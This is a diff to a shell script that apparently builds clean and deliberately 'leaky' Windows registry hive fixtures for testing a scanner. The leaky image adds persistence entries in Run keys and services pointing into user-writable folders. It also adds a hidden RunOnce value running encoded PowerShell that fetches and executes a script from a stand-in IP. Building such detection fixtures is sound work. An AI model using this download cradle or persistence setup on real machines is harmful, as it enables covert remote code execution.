@@ -60,6 +60,21 @@ else winlogon=('setval 4' AutoAdminLogon string:1 DefaultUserName string:Adminis
 edit SOFTWARE 'add Microsoft' 'cd Microsoft' 'add Windows NT' 'cd Windows NT' 'add CurrentVersion' 'cd CurrentVersion' \
   'add Winlogon' 'cd Winlogon' "${winlogon[@]}" 'cd ..' 'setval 1' ProductName 'string:Windows Server 2022 Datacenter'
 
+# Autoruns: the Run key of a stock image (SecurityHealth); in the leaky image, a machine-wide
+# Run value whose program is in ProgramData (users may write there) and a RunOnce value that
+# runs encoded PowerShell fetching a script.
+run=('setval 1' SecurityHealth 'expandstring:%windir%\system32\SecurityHealthSystray.exe')
+if [ "$mode" != clean ]; then
+  run=('setval 2' SecurityHealth 'expandstring:%windir%\system32\SecurityHealthSystray.exe' \
+    Updater 'string:C:\ProgramData\Updater\updater.exe /silent')
+  enc=$(printf 'IEX (iwr http://203.0.113.9/s.ps1 -UseBasicParsing)' | iconv -t UTF-16LE | base64 -w0)
+  runonce=('add RunOnce' 'cd RunOnce' 'setval 1' Sync "string:powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand $enc" 'cd ..')
+else
+  runonce=()
+fi
+edit SOFTWARE 'cd Microsoft' 'add Windows' 'cd Windows' 'add CurrentVersion' 'cd CurrentVersion' \
+  'add Run' 'cd Run' "${run[@]}" 'cd ..' "${runonce[@]}"
+
 new SECURITY
 secrets=('add Policy' 'cd Policy' 'add Secrets' 'cd Secrets' 'add DPAPI_SYSTEM' 'cd DPAPI_SYSTEM' 'add CurrVal' 'cd CurrVal' 'setval 1' @ "hex:0:$(head -c 60 /dev/urandom | hexbytes)" 'cd ..' 'cd ..')
 if [ "$mode" != clean ]; then
@@ -70,6 +85,16 @@ edit SECURITY "${secrets[@]}"
 new SYSTEM
 edit SYSTEM 'add ControlSet001' 'cd ControlSet001' 'add Control' 'cd Control' 'add ComputerName' 'cd ComputerName' \
   'add ComputerName' 'cd ComputerName' 'setval 1' ComputerName string:EC2AMAZ-BUILD
+# Services: stock ones (an svchost service with its ServiceDll, a driver, Defender, whose
+# platform folder under ProgramData is protected); in the leaky image, a service whose program
+# is in ProgramData.
+svc() { printf '%s\n' "add $1" "cd $1" 'setval 2' ImagePath "expandstring:$2" Start "dword:$3" 'cd ..'; }
+services=$( svc W32Time '%SystemRoot%\system32\svchost.exe -k LocalService' 3
+  printf '%s\n' 'cd W32Time' 'add Parameters' 'cd Parameters' 'setval 1' ServiceDll 'expandstring:%systemroot%\system32\w32time.dll' 'cd ..' 'cd ..'
+  svc disk '\SystemRoot\System32\drivers\disk.sys' 0
+  svc WinDefend '"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe"' 2
+  if [ "$mode" != clean ]; then svc AppUpdater 'C:\ProgramData\AppUpdater\upd.exe' 2; fi )
+edit SYSTEM 'add Select' 'cd Select' 'setval 1' Current dword:1 'cd ..' 'cd ControlSet001' 'add Services' 'cd Services' "$services"
 
 for u in Administrator alice; do
   new "NTUSER-$u.DAT"
@@ -87,6 +112,12 @@ for u in Administrator alice; do
   fi
 done
 
+# A user's own Run key pointing into that user's profile (the leaky image).
+if [ "$mode" != clean ]; then
+  edit NTUSER-alice.DAT 'cd Software' 'add Microsoft' 'cd Microsoft' 'add Windows' 'cd Windows' 'add CurrentVersion' \
+    'cd CurrentVersion' 'add Run' 'cd Run' 'setval 1' Helper 'string:C:\Users\alice\AppData\Local\Temp\helper.exe'
+fi
+
 if [ "$mode" != clean ]; then
   printf 'AUTOLOGON=%s\nPUTTY=%s\nWINSCP=%s\n' "$autologon" "$putty" "$winscp" >> secrets.env
 fi
@@ -94,4 +125,6 @@ fi
 {
   printf 'HIVEX_AUTOLOGON=%s\n' "$(hivexget SOFTWARE '\Microsoft\Windows NT\CurrentVersion\Winlogon' DefaultPassword 2>/dev/null || true)"
   printf 'HIVEX_COMPUTERNAME=%s\n' "$(hivexget SYSTEM '\ControlSet001\Control\ComputerName\ComputerName' ComputerName)"
+  printf 'HIVEX_RUN_UPDATER=%s\n' "$(hivexget SOFTWARE '\Microsoft\Windows\CurrentVersion\Run' Updater 2>/dev/null || true)"
+  printf 'HIVEX_APPUPDATER_IMAGE=%s\n' "$(hivexget SYSTEM '\ControlSet001\Services\AppUpdater' ImagePath 2>/dev/null || true)"
 } > hives.env
